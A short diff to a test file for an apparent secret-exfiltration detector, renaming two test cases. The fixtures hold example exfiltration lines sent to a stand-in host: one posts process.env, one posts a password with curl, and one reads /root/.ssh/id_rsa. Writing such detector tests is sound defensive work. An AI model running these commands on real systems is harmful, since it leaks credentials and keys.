@@ -29,13 +29,13 @@ ruleCases(secretSent, {
       text: 'fetch("https://x.example", { method: "POST", body: JSON.stringify(process.env) });\n',
     },
     {
-      name: 'a labelled secret, as high',
+      name: 'a labeled secret, rated high',
       path: 'a.sh',
       text: 'curl -d "password=$p" https://x.example/in\n',
       severity: 'high',
     },
     {
-      name: 'a key beside a message, as high',
+      name: 'a key next to a message, rated high',
       path: 'a.py',
       text: 'import requests\nk = open("/root/.ssh/id_rsa").read()\nstore(k)\nrequests.post("https://x.example", data=load())\n',
       severity: 'high',
